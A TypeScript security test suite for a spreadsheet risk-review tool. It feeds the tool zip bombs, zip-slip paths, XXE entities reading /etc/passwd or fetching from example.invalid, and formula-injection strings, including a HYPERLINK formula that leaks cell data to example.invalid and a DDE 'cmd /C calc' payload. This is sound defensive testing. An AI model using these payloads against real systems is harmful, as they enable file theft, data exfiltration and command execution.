// Security review: workbooks, CSVs and paths from outside (a contractor, a shared folder, a careless --out)
// against SPEC "What must never happen", "Writing files", the limits, and the CLI contract. Each case is a
// trap a hostile or broken file sets; "(judgement)" marks a case where SPEC is silent and says why.

import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as zlib from "zlib";
import { deflateSync, strToU8, unzipSync } from "fflate";
import { main } from "../../src/cli/main";
import { FileReadError } from "../../src/files/file-read-error";
import { readCsv } from "../../src/files/read-csv";
import { readWorkbookFile } from "../../src/files/read-workbook-file";
import { readXlsx } from "../../src/files/read-xlsx";
import { crc32 } from "../../src/files/xlsx/zip-package";
import { checkWorkbook } from "../../src/core/check";
import { defaultSettings } from "../../src/core/model/settings";
import type { CellValue } from "../../src/core/model/grid";
import { rowSnapshot } from "../../src/core/meeting/conflict";
import { fieldColumnsOf, recordToEdits } from "../../src/core/meeting/record";
import { buildUpdateLogTab } from "../../src/core/meeting/update-log-tab";
import { readAllSheets } from "../../src/excel/read-sheets";
import { openUpdateLog, recordUpdate } from "../../src/excel/record-update";
import { writeOwnedTab } from "../../src/excel/write-owned-tab";
import { featureWorkbookParts, FEATURE_HEADERS } from "../helpers/feature-workbook";
import { zipParts } from "../helpers/ooxml";
import { wellFormedProblem } from "../helpers/xml-well-formed";
import { REGISTER_HEADERS, risk } from "../core/rules/harness";
import { install } from "../excel/helpers";
import { expectFileReadError } from "./helpers";
import { rawXlsx, sheetPart } from "./xlsx-raw-parts";

// The modules themselves (not TypeScript's import wrappers), so spies see every caller's call.
const fsModule: typeof fs = require("fs");
const childProcess: typeof import("child_process") = require("child_process");
const httpModule: typeof import("http") = require("http");
const httpsModule: typeof import("https") = require("https");
const netModule: typeof import("net") = require("net");

jest.setTimeout(20_000);

const MB = 1024 * 1024;
const AS_AT = "2022-10-10";
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "crr-untrusted-"));
const dec = (b: Uint8Array): string => new TextDecoder().decode(b);

afterEach(() => jest.restoreAllMocks());

/** `risk-review …` in-process: exit status and everything printed. */
async function run(argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = "";
  let err = "";
  const code = await main(argv, { stdout: (t) => (out += t), stderr: (t) => (err += t) });
  return { code, out, err };
}

/** Writes a file into a fresh folder of its own; returns its path. */
function put(dirName: string, name: string, bytes: Uint8Array | string): string {
  const dir = path.join(tmp, dirName);
  fs.mkdirSync(dir, { recursive: true });
  const p = path.join(dir, name);
  fs.writeFileSync(p, bytes);
  return p;
}

/** Raw control characters a terminal would obey (line feed, which ends lines, excepted). */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

// ---------------------------------------------------------------------------------------------------------
// Hand-made zips: deflated entries whose central directory says what the test wants it to say.

interface RawEntry {
  name: string;
  /** Deflated (method 8) data. */
  comp: Uint8Array;
  /** The uncompressed size the directory claims. */
  size: number;
  crc: number;
}

function deflated(name: string, content: string | Uint8Array): RawEntry {
  const data = typeof content === "string" ? strToU8(content) : content;
  return { name, comp: deflateSync(data), size: data.length, crc: crc32(data) };
}

function centralDirectory(entries: RawEntry[], offsets: number[]): Buffer {
  return Buffer.concat(
    entries.flatMap((e, i) => {
      const name = Buffer.from(e.name, "utf8");
      const h = Buffer.alloc(46);
      h.writeUInt32LE(0x02014b50, 0);
      h.writeUInt16LE(20, 4);
      h.writeUInt16LE(20, 6);
      h.writeUInt16LE(8, 10);
      h.writeUInt32LE(e.crc, 16);
      h.writeUInt32LE(e.comp.length, 20);
      h.writeUInt32LE(e.size, 24);
      h.writeUInt16LE(name.length, 28);
      h.writeUInt32LE(offsets[i], 42);
      return [h, name];
    }),
  );
}

function endRecord(count: number, dirLength: number, dirOffset: number, commentLength: number): Buffer {
  const b = Buffer.alloc(22);
  b.writeUInt32LE(0x06054b50, 0);
  b.writeUInt16LE(count, 8);
  b.writeUInt16LE(count, 10);
  b.writeUInt32LE(dirLength, 12);
  b.writeUInt32LE(dirOffset, 16);
  b.writeUInt16LE(commentLength, 20);
  return b;
}

/**
 * A zip of deflated entries. With `hiddenSizes`, the zip comment holds a second central directory (same
 * entries, these sizes) and a second end record whose own comment length is wrong: a reader that checks
 * the end record skips it, one that takes the last signature it finds uses it.
 */
function buildZip(entries: RawEntry[], hiddenSizes?: number[]): Uint8Array {
  const chunks: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(e.crc, 14);
    local.writeUInt32LE(e.comp.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    offsets.push(offset);
    chunks.push(local, name, Buffer.from(e.comp));
    offset += 30 + name.length + e.comp.length;
  }
  const dir = centralDirectory(entries, offsets);
  if (!hiddenSizes)
    return new Uint8Array(Buffer.concat([...chunks, dir, endRecord(entries.length, dir.length, offset, 0)]));
  const hidden = centralDirectory(
    entries.map((e, i) => ({ ...e, size: hiddenSizes[i] })),
    offsets,
  );
  const hiddenAt = offset + dir.length + 22;
  const comment = Buffer.concat([hidden, endRecord(entries.length, hidden.length, hiddenAt, 1)]);
  return new Uint8Array(
    Buffer.concat([...chunks, dir, endRecord(entries.length, dir.length, offset, comment.length), comment]),
  );
}

const MAIN_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const WS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet";

/** workbook.xml and its rels for one sheet "S" at xl/worksheets/sheet1.xml. */
function workbookEntries(): RawEntry[] {
  return [
    deflated(
      "xl/workbook.xml",
      `<workbook ${MAIN_NS} ${R_NS}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    deflated(
      "xl/_rels/workbook.xml.rels",
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${WS_REL}" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
  ];
}

/** A raw deflate stream of `prefix` then `mb` MB of spaces, made a megabyte at a time (never held whole). */
async function deflateWithPadding(prefix: Uint8Array, mb: number): Promise<Uint8Array> {
  const z = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  z.on("data", (b: Buffer) => out.push(b));
  const done = new Promise((resolve) => z.on("end", resolve));
  z.write(Buffer.from(prefix));
  const spaces = Buffer.alloc(MB, 0x20);
  for (let i = 0; i < mb; i++) z.write(spaces);
  z.end();
  await done;
  return new Uint8Array(Buffer.concat(out));
}

/** Every entry's stored (compressed) bytes and CRC, from the central directory. */
function storedEntries(bytes: Uint8Array): Map<string, { crc: number; method: number; raw: Buffer }> {
  const b = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let eocd = b.length - 22;
  while (b.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  const count = b.readUInt16LE(eocd + 10);
  let pos = b.readUInt32LE(eocd + 16);
  const out = new Map<string, { crc: number; method: number; raw: Buffer }>();
  for (let i = 0; i < count; i++) {
    const nameLen = b.readUInt16LE(pos + 28);
    const name = b.subarray(pos + 46, pos + 46 + nameLen).toString("utf8");
    const size = b.readUInt32LE(pos + 20);
    const local = b.readUInt32LE(pos + 42);
    const start = local + 30 + b.readUInt16LE(local + 26) + b.readUInt16LE(local + 28);
    out.set(name, {
      crc: b.readUInt32LE(pos + 16),
      method: b.readUInt16LE(pos + 10),
      raw: b.subarray(start, start + size),
    });
    pos += 46 + nameLen + b.readUInt16LE(pos + 30) + b.readUInt16LE(pos + 32);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------
// Registers and exports.

const inline = (ref: string, v: string): string =>
  `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${v.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</t></is></c>`;
const num = (ref: string, v: number): string => `<c r="${ref}"><v>${v}</v></c>`;
const HEADER_ROW = `<row r="1">${FEATURE_HEADERS.map((h, i) => inline(`${String.fromCharCode(65 + i)}1`, h)).join("")}</row>`;

/** A register row in FEATURE_HEADERS' columns (A–H). */
function registerRow(
  r: number,
  id: string,
  title: string,
  owner: string,
  l: number,
  i: number,
  update: string,
): string {
  return (
    `<row r="${r}">${inline(`A${r}`, id)}${inline(`B${r}`, title)}${inline(`C${r}`, owner)}` +
    `${num(`D${r}`, l)}${num(`E${r}`, i)}${num(`F${r}`, l * i)}${inline(`G${r}`, "Open")}${inline(`H${r}`, update)}</row>`
  );
}

/** The feature register (.xlsm: table, formulas, VBA project …) with its register sheet renamed (XML-escaped name). */
function featureRegister(
  sheetNameXml = "Register",
  extra: Record<string, string | Uint8Array> = {},
): Uint8Array {
  const parts = featureWorkbookParts();
  parts["xl/workbook.xml"] = (parts["xl/workbook.xml"] as string).replace(
    'name="Register"',
    `name="${sheetNameXml}"`,
  );
  return zipParts({ ...parts, ...extra });
}

/** An export in the register's columns, CRLF, quoted as CSV needs. */
function exportCsv(rows: (string | number)[][]): string {
  const cell = (v: string | number): string =>
    typeof v === "number" ? String(v) : `"${v.replace(/"/g, '""')}"`;
  return [FEATURE_HEADERS, ...rows].map((r) => r.map(cell).join(",")).join("\r\n");
}

const PLAIN_EXPORT = exportCsv([
  ["R-001", "Carriageway resurfacing delayed", "J Smith", 4, 4, 16, "Open", "Reviewed again"],
  ["R-009", "New risk", "K Patel", 2, 2, 4, "Open", "Raised"],
]);

/** The sheet part a workbook names `sheet`, from its unzipped parts. */
function partOfSheet(parts: Record<string, Uint8Array>, sheet: string): string {
  const wb = dec(parts["xl/workbook.xml"]);
  const rels = dec(parts["xl/_rels/workbook.xml.rels"]);
  const esc = sheet.replace(/&/g, "&amp;").replace(/'/g, "&apos;");
  const m = new RegExp(`<sheet [^>]*name="(?:${sheet}|${esc})"[^>]*r:id="([^"]+)"`).exec(wb);
  if (!m) throw new Error(`no sheet ${sheet}`);
  const t = new RegExp(`Id="${m[1]}"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="${m[1]}"`).exec(rels)!;
  const target = t[1] ?? t[2];
  return target.startsWith("/") ? target.slice(1) : `xl/${target}`;
}

const formulaCount = (xml: string): number => (xml.match(/<(\w+:)?f[\s>/]/g) ?? []).length;

// =========================================================================================================

describe("zip container: bombs, lying directories, duplicates, zip slip, encryption", () => {
  const SHEET_XML = strToU8(sheetPart(`<row r="1">${inline("A1", "Risk ID")}</row>`));

  async function tinyClaimBomb(): Promise<Uint8Array> {
    // Claims the sheet's 200-odd bytes; the deflate stream goes on for 300 MB of spaces after them.
    const comp = await deflateWithPadding(SHEET_XML, 300);
    return buildZip([
      ...workbookEntries(),
      { name: "xl/worksheets/sheet1.xml", comp, size: SHEET_XML.length, crc: crc32(SHEET_XML) },
    ]);
  }

  it("an entry that claims ~200 bytes but inflates to 300 MB: memory stays bounded, no crash", async () => {
    const zip = await tinyClaimBomb();
    expect(zip.length).toBeLessThan(1 * MB);
    const before = process.memoryUsage().arrayBuffers;
    const outcome = await readXlsx(zip, "bomb.xlsx").then(
      () => "grids",
      (e: unknown) => (e instanceof FileReadError ? "FileReadError" : `crash: ${String(e)}`),
    );
    expect(["grids", "FileReadError"]).toContain(outcome);
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(64 * MB);
  });

  it("(judgement) an entry whose data inflate past its claimed size is refused as damaged, naming the part", async () => {
    // SPEC "Not a workbook": damaged files are refused as damaged, naming the part. A part holding more
    // compressed data than its claimed size could pack into is refused from the directory, before fflate
    // would decode the whole stream (~0.7 s per 300 MB) to keep only the claimed bytes.
    const zip = await tinyClaimBomb();
    const err = await expectFileReadError(() => readXlsx(zip, "bomb.xlsx"));
    expect(err.code).toBe("damaged");
    expect(err.message).toContain("xl/worksheets/sheet1.xml");
  });

  it("a second central directory hidden in the zip comment cannot smuggle a part past the unpacked-size limit", async () => {
    // limits.ts: maxUncompressedBytes is "the largest total uncompressed size an .xlsx's zip directory may
    // claim (zip bombs)". The directory the size check reads claims 100 bytes for the sheet; the one the
    // inflater reads (the last end record's, whose comment length is wrong) claims the true 4 MB.
    const sheet = strToU8(sheetPart(`<row r="1">${inline("A1", "Risk ID")}</row>`) + " ".repeat(4 * MB));
    const entries = [...workbookEntries(), deflated("xl/worksheets/sheet1.xml", sheet)];
    const honest = buildZip(entries);
    const limits = { maxUncompressedBytes: 1 * MB };
    expect((await expectFileReadError(() => readXlsx(honest, "honest.xlsx", limits))).code).toBe(
      "too-large-uncompressed",
    );
    const lying = buildZip(
      entries.map((e, i) => (i === 2 ? { ...e, size: 100 } : e)),
      entries.map((e) => e.size),
    );
    const err = await expectFileReadError(() => readXlsx(lying, "two-directories.xlsx", limits));
    expect(["too-large-uncompressed", "damaged", "truncated"]).toContain(err.code);
    expect(err.message).toContain('"two-directories.xlsx"');
  });

  it("duplicate entries that differ only in case and slashes are refused as damaged, naming the part", async () => {
    const zip = buildZip([
      ...workbookEntries(),
      deflated("xl/worksheets/sheet1.xml", SHEET_XML),
      deflated("XL\\Worksheets\\SHEET1.xml", strToU8(sheetPart(`<row r="1">${inline("A1", "Other")}</row>`))),
    ]);
    const err = await expectFileReadError(() => readWorkbookFile(zip, "twice.xlsx"));
    expect(err.code).toBe("damaged");
    expect(err.message).toMatch(
      /"twice\.xlsx" is damaged: the part "XL\\Worksheets\\SHEET1\.xml" is in the file twice/,
    );
  });

  it("zip slip: entries named ../…, /abs/… and ..\\… are never written as files by check --out or import --out", async () => {
    const tag = `crr-zipslip-${process.pid}-${Date.now().toString(36)}`;
    const into = put(
      "zipslip",
      "Register.xlsm",
      featureRegister("Register", {
        [`../../../../${tag}-up.txt`]: "planted",
        [`/tmp/${tag}-abs.txt`]: "planted",
        [`..\\..\\${tag}-back.txt`]: "planted",
        [`xl/../../${tag}-mid.txt`]: "planted",
      }),
    );
    const dir = path.dirname(into);
    const exportFile = put("zipslip", "export.csv", PLAIN_EXPORT);
    const checkRun = await run(["check", into, "--as-at", AS_AT, "--out", path.join(dir, "Review.xlsx")]);
    const importRun = await run([
      "import",
      exportFile,
      "--into",
      into,
      "--out",
      path.join(dir, "Merged.xlsm"),
      "--as-at",
      AS_AT,
    ]);
    // Both read the workbook (lossless: the odd entries are parts like any other) and write only --out.
    expect([0, 1]).toContain(checkRun.code);
    expect([importRun.code, importRun.err]).toEqual([0, ""]);
    expect(
      Object.keys(unzipSync(fs.readFileSync(path.join(dir, "Merged.xlsm")))).filter((n) => n.includes(tag)),
    ).toHaveLength(4);
    const planted = (d: string): string[] => {
      try {
        return fs.readdirSync(d).filter((f) => f.includes(tag));
      } catch {
        return [];
      }
    };
    for (const d of [
      dir,
      tmp,
      path.dirname(tmp),
      os.tmpdir(),
      "/tmp",
      process.cwd(),
      path.resolve(dir, "../../.."),
    ])
      expect([d, planted(d)]).toEqual([d, []]);
    expect(fs.readdirSync(dir).sort()).toEqual(["Merged.xlsm", "Register.xlsm", "Review.xlsx", "export.csv"]);
  });

  it("an encrypted (password-protected, OLE compound file) .xlsm given to import --into: one plain line, exit 2, nothing written", async () => {
    const cfb = new Uint8Array(4096);
    cfb.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    // The stream names an encrypted package carries, as UTF-16 in its directory sector.
    const names = Buffer.from("EncryptionInfo\u0000EncryptedPackage", "utf16le");
    cfb.set(names, 1024);
    const into = put("encrypted", "Locked Register.xlsm", cfb);
    const exportFile = put("encrypted", "export.csv", PLAIN_EXPORT);
    const out = path.join(path.dirname(into), "Merged.xlsm");
    const r = await run(["import", exportFile, "--into", into, "--out", out, "--as-at", AS_AT]);
    expect(r.code).toBe(2);
    expect(r.err.trimEnd().split("\n")).toHaveLength(1);
    expect(r.err).toContain('"Locked Register.xlsm" is password-protected');
    expect(fs.existsSync(out)).toBe(false);
    expect(Buffer.compare(fs.readFileSync(into), Buffer.from(cfb))).toBe(0);
  });
});

// =========================================================================================================

describe("XML: DOCTYPEs, entities, references out of the package, bad indexes and addresses", () => {
  /** Fails the test if anything reads a file off the disk or opens a connection while `fn` runs. */
  async function noFileOrNetwork<T>(fn: () => Promise<T>): Promise<T> {
    const fsSpies = [
      jest.spyOn(fsModule, "readFileSync"),
      jest.spyOn(fsModule, "openSync"),
      jest.spyOn(fsModule.promises, "readFile"),
      jest.spyOn(fsModule.promises, "open"),
    ];
    const netSpies = [
      jest.spyOn(httpModule, "request"),
      jest.spyOn(httpModule, "get"),
      jest.spyOn(httpsModule, "request"),
      jest.spyOn(httpsModule, "get"),
      jest.spyOn(netModule, "connect"),
      jest.spyOn(netModule, "createConnection"),
    ];
    const result = await fn();
    for (const s of fsSpies)
      for (const call of s.mock.calls)
        expect(String(call[0])).not.toMatch(/etc\/(passwd|hostname)|example\.invalid/);
    for (const s of netSpies) expect(s).not.toHaveBeenCalled();
    return result;
  }

  it("an external entity (file:// and http://) in sharedStrings' DOCTYPE is never fetched nor expanded", async () => {
    const sst =
      `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">` +
      `<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; <!ENTITY web SYSTEM "http://example.invalid/x">]>` +
      `<sst ${MAIN_NS} count="2"><si><t>&xxe;</t></si><si><t>a &web; b</t></si></sst>`;
    const bytes = rawXlsx({
      sheets: [
        { name: "S", rows: '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>' },
      ],
      sharedStrings: { part: sst },
    });
    const outcome = await noFileOrNetwork(() =>
      readXlsx(bytes, "xxe.xlsx").then(
        (g) => g[0].values,
        (e: unknown) => (e instanceof FileReadError ? e.code : `crash: ${String(e)}`),
      ),
    );
    // Read literally, or refused as damaged: never the file's contents.
    if (Array.isArray(outcome)) expect(outcome).toEqual([["&xxe;", "a &web; b"]]);
    else expect(outcome).toBe("damaged");
  });

  it("entity expansion in workbook.xml (billion laughs in a sheet name) is never expanded, and quickly", async () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`);
    const wb = `<?xml version="1.0"?><!DOCTYPE workbook [${lol.join("")}]><workbook ${MAIN_NS} ${R_NS}><sheets><sheet name="&lol9;" sheetId="1" r:id="rId1"/></sheets></workbook>`;
    const bytes = rawXlsx({
      sheets: [{ name: "S", rows: `<row r="1">${inline("A1", "x")}</row>` }],
      extra: { "xl/workbook.xml": wb },
    });
    const t0 = Date.now();
    const grids = await readXlsx(bytes, "lol.xlsx");
    expect(Date.now() - t0).toBeLessThan(5_000);
    expect(grids[0].sheetName).toBe("&lol9;");
  });

  it("a sheet whose relationship points out of the package (file://, ../../etc/passwd, http://) is damaged, and nothing is fetched", async () => {
    for (const [target, mode] of [
      ["file:///etc/passwd", ' TargetMode="External"'],
      ["../../../../../../etc/passwd", ""],
      ["http://example.invalid/sheet1.xml", ' TargetMode="External"'],
    ]) {
      const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${WS_REL}" Target="${target}"${mode}/></Relationships>`;
      const bytes = rawXlsx({
        sheets: [{ name: "S", rows: `<row r="1">${inline("A1", "x")}</row>` }],
        extra: { "xl/_rels/workbook.xml.rels": rels },
      });
      const err = await noFileOrNetwork(() => expectFileReadError(() => readXlsx(bytes, "outside.xlsx")));
      expect([target, err.code]).toEqual([target, "damaged"]);
      expect(err.message).toMatch(/^"outside\.xlsx" is damaged: .*sheet "S"/);
    }
  });

  it("shared-string indexes -1, 10^20 and one past the end are refused as damaged, naming sheet and cell", async () => {
    for (const index of ["-1", "99999999999999999999", "2"]) {
      const bytes = rawXlsx({
        sheets: [
          {
            name: "Risks",
            rows: `<row r="1">${inline("A1", "Risk ID")}</row><row r="2"><c r="B2" t="s"><v>${index}</v></c></row>`,
          },
        ],
        sharedStrings: ["<t>a</t>", "<t>b</t>"],
      });
      const err = await expectFileReadError(() => readXlsx(bytes, "sst.xlsx"));
      expect([index, err.code]).toEqual([index, "damaged"]);
      expect(err.message).toContain('"sst.xlsx" is damaged: sheet "Risks", cell B2 uses shared string');
    }
  });

  it('(judgement) a cell reference past XFD1048576 ("ZZZZ99999999") is refused as damaged, naming sheet and cell', async () => {
    // SPEC is silent on addresses Excel cannot hold; "bad strings indexes" are damage, and a column Excel has
    // no room for is the same kind of impossible reference. Today the sheet is silently widened to 475,254
    // columns (every row padded to that width) and the row part of the reference is ignored.
    const rows = `${HEADER_ROW}${registerRow(2, "R-1", "Title", "Owner", 2, 2, "u").replace("</row>", `${inline("ZZZZ99999999", "far")}</row>`)}`;
    const err = await expectFileReadError(() =>
      readXlsx(rawXlsx({ sheets: [{ name: "Risks", rows }] }), "far.xlsx"),
    );
    expect(err.code).toBe("damaged");
    expect(err.message).toMatch(/"far\.xlsx".*sheet "Risks".*ZZZZ99999999/);
  });

  it("absurd row numbers end in a plain error naming file and sheet; negative, zero and fractional ones never crash", async () => {
    for (const r of ["1000000000", "99999999999999999999", "1048577"]) {
      const rows = `${HEADER_ROW}<row r="${r}">${inline("A2", "R-1")}</row>`;
      const err = await expectFileReadError(() =>
        readXlsx(rawXlsx({ sheets: [{ name: "Risks", rows }] }), "rows.xlsx"),
      );
      expect([r, err.message]).toEqual([r, expect.stringMatching(/^"rows\.xlsx", sheet "Risks"/)]);
    }
    for (const r of ["-5", "0", "1.5", "abc"]) {
      const rows = `${HEADER_ROW}<row r="${r}">${inline("A2", "R-1")}</row>`;
      const outcome = await readXlsx(rawXlsx({ sheets: [{ name: "Risks", rows }] }), "rows.xlsx").then(
        (g) => g[0].values.length,
        (e: unknown) => (e instanceof FileReadError ? "refused" : `crash ${String(e)}`),
      );
      expect([r, typeof outcome === "number" || outcome === "refused"]).toEqual([r, true]);
    }
  });
});

// =========================================================================================================

describe("CSV: a million columns, one 49 MB line", () => {
  it("one line of 1,000,001 columns and nothing a register has: exit 2, one plain line, in seconds", async () => {
    const file = put("wide", "wide.csv", `${"a,".repeat(1_000_000)}a\n`);
    const t0 = Date.now();
    const r = await run(["check", file, "--as-at", AS_AT]);
    expect(Date.now() - t0).toBeLessThan(10_000);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(
      /^risk-review: "wide\.csv" holds no improvement plan, risk register or actions sheet/,
    );
    expect(r.err.trimEnd().split("\n")).toHaveLength(1);
  });

  it("a register's header row followed by 1,000,000 more header cells: a report or a plain message, never 'unexpected error'", async () => {
    // SPEC "What must never happen": a bad file ends in a plain-English message naming the file, never a
    // crash. Today: RangeError "Maximum call stack size exceeded" (Math.min(...cols) in core/read/read-table.ts),
    // printed as "unexpected error … this is a bug". 200,000 columns are enough; a million fit the 5M-cell limit.
    const csv = `${FEATURE_HEADERS.join(",")},${"Extra,".repeat(1_000_000)}x\r\nR-1,Title,Owner,2,2,4,Open,Updated\r\n`;
    const file = put("wide-register", "wide-register.csv", csv);
    const t0 = Date.now();
    const r = await run(["check", file, "--as-at", AS_AT, "--format", "json"]);
    expect(Date.now() - t0).toBeLessThan(15_000);
    expect(r.err).not.toMatch(/unexpected error|Maximum call stack/);
    if (r.code === 2) expect(r.err).toContain('"wide-register.csv"');
    else expect(JSON.parse(r.out).sheets[0].kind).toBe("risk-register");
  });

  it("a single 49 MB line is read as one cell, in bounded time", async () => {
    const bytes = new Uint8Array(49 * MB).fill(0x78);
    const t0 = Date.now();
    const grid = readCsv(bytes, "long.csv");
    expect(Date.now() - t0).toBeLessThan(10_000);
    expect(grid.values).toHaveLength(1);
    expect((grid.values[0][0] as string).length).toBe(49 * MB);
  });

  it("a register whose one title is a 20 MB line: check prints a bounded report and --out cuts the title to a cell's 32,767", async () => {
    const head = strToU8(`${FEATURE_HEADERS.join(",")}\nR-1,`);
    const tail = strToU8(",Owner,4,5,20,Open,Updated\n");
    const bytes = new Uint8Array(head.length + 20 * MB + tail.length).fill(0x78);
    bytes.set(head);
    bytes.set(tail, bytes.length - tail.length);
    const file = put("long", "long.csv", bytes);
    const review = path.join(path.dirname(file), "Review.xlsx");
    try {
      const r = await run(["check", file, "--as-at", AS_AT, "--out", review]);
      expect(r.err).not.toMatch(/unexpected error/);
      expect([0, 1]).toContain(r.code);
      expect(r.out.length).toBeLessThan(1 * MB);
      const escalation = (await readXlsx(fs.readFileSync(review), "Review.xlsx")).find(
        (g) => g.sheetName === "Escalation",
      )!;
      const longest = Math.max(
        ...escalation.values.flat().map((v) => (typeof v === "string" ? v.length : 0)),
      );
      expect(longest).toBeLessThanOrEqual(32_767);
    } finally {
      fs.rmSync(file, { force: true });
    }
  });
});

// =========================================================================================================

describe("text from input never becomes a formula, a broken part or a wrong link", () => {
  const HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"Click")';
  const HOSTILE_OWNER = "@SUM(1)";
  const HOSTILE_UPDATE = "-2+3 cmd|' /C calc'!A0";

  it("check --out: titles, owners, updates, a sheet name and a file name starting = + - @ are text in every owned tab", async () => {
    const rows =
      HEADER_ROW +
      registerRow(2, "+R-1", HOSTILE_TITLE, HOSTILE_OWNER, 4, 5, HOSTILE_UPDATE) +
      registerRow(3, "R-2", "\t=1+1", "\r=2+2", 5, 5, "\n=3+3");
    const input = put(
      "formula-check",
      "=1+1 register.xlsx",
      rawXlsx({ sheets: [{ name: "=Risks!A1", rows }] }),
    );
    const review = path.join(path.dirname(input), "Review.xlsx");
    const r = await run(["check", input, "--as-at", AS_AT, "--out", review]);
    expect([0, 1]).toContain(r.code);
    const parts = unzipSync(fs.readFileSync(review));
    for (const [p, b] of Object.entries(parts)) {
      if (/\.(xml|rels)$/.test(p)) expect([p, wellFormedProblem(b)]).toEqual([p, null]);
      if (p.startsWith("xl/worksheets/") && p.endsWith(".xml"))
        expect([p, formulaCount(dec(b))]).toEqual([p, 0]);
    }
    const grids = await readXlsx(fs.readFileSync(review), "Review.xlsx");
    const texts = new Set(
      grids.flatMap((g) => g.values.flat()).filter((v): v is string => typeof v === "string"),
    );
    for (const s of [HOSTILE_TITLE, HOSTILE_OWNER, "+R-1"]) expect([s, texts.has(s)]).toEqual([s, true]);
    // Titles are shown trimmed ("\t=1+1" as "=1+1"): still a text cell, which is what counts here.
    for (const s of ["=1+1", "=2+2", "=3+3"]) expect([s, texts.has(s)]).toEqual([s, true]);
    expect([...texts].some((t) => t.includes("=Risks!A1"))).toBe(true);
    expect([...texts].some((t) => t.includes("=1+1 register.xlsx"))).toBe(true);
  });

  it("import: formula-like export text lands in the register and the Import Log (Old/New, File) as text; no new formula", async () => {
    const into = put("formula-import", "Register.xlsm", featureRegister());
    const exportFile = put(
      "formula-import",
      "=cmd|' calc'!A0.csv",
      exportCsv([
        ["R-001", HOSTILE_TITLE, HOSTILE_OWNER, 3, 4, 12, "Open", HOSTILE_UPDATE],
        ["R-010", "+44 20 7946 0000", "=1+1", 2, 2, 4, "Open", "@cmd"],
      ]),
    );
    const out = path.join(path.dirname(into), "Merged.xlsm");
    const r = await run(["import", exportFile, "--into", into, "--out", out, "--as-at", AS_AT]);
    expect(r.err).toBe("");
    expect(r.code).toBe(0);
    const parts = unzipSync(fs.readFileSync(out));
    const register = partOfSheet(parts, "Register");
    for (const [p, b] of Object.entries(parts)) {
      if (/\.(xml|rels)$/.test(p)) expect([p, wellFormedProblem(b)]).toEqual([p, null]);
      if (!p.startsWith("xl/worksheets/") || !p.endsWith(".xml")) continue;
      // Only the register's own score formulas (column F) may hold <f>.
      const cellsWithF = [...dec(b).matchAll(/<c r="([A-Z]+)\d+"[^>]*>(?:(?!<\/c>).)*<f[\s>/]/g)].map(
        (m) => m[1],
      );
      expect([p, cellsWithF.filter((c) => !(p === register && c === "F"))]).toEqual([p, []]);
    }
    const grids = await readXlsx(fs.readFileSync(out), "Merged.xlsm");
    const reg = grids.find((g) => g.sheetName === "Register")!;
    expect(reg.values[1].slice(0, 3)).toEqual(["R-001", HOSTILE_TITLE, HOSTILE_OWNER]);
    expect(reg.values[1][7]).toBe(HOSTILE_UPDATE);
    const log = grids.find((g) => g.sheetName === "Import Log")!.values.flat();
    for (const s of [
      HOSTILE_TITLE,
      HOSTILE_OWNER,
      HOSTILE_UPDATE,
      "Carriageway resurfacing delayed",
      "=cmd|' calc'!A0.csv",
    ])
      expect([s, log.includes(s)]).toEqual([s, true]);
  });

  it("(judgement) import: a register cell written with text starting '=' carries quotePrefix, as Excel and the task pane store it", async () => {
    // SPEC: "text starting with =, +, -, @ … is stored as text", and writable-text.ts: "the task pane stores what
    // the command line stores". The pane writes "'=…" (DESIGN), which Excel keeps with quotePrefix="1"; the file
    // writer writes a bare inline string. The file holds text, but the first time an officer presses F2, Enter
    // in that register cell Excel re-reads it as a formula. Judgement because SPEC speaks of the stored value only.
    const into = put("quote-prefix", "Register.xlsm", featureRegister());
    const exportFile = put(
      "quote-prefix",
      "export.csv",
      exportCsv([["R-001", HOSTILE_TITLE, "J Smith", 3, 4, 12, "Open", "Reviewed in September"]]),
    );
    const out = path.join(path.dirname(into), "Merged.xlsm");
    const r = await run(["import", exportFile, "--into", into, "--out", out, "--as-at", AS_AT]);
    expect(r.code).toBe(0);
    const parts = unzipSync(fs.readFileSync(out));
    const sheet = dec(parts[partOfSheet(parts, "Register")]);
    const cell = /<c r="B2"([^>]*)>/.exec(sheet)![1];
    const style = Number(/\ss="(\d+)"/.exec(cell)?.[1] ?? 0);
    const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/
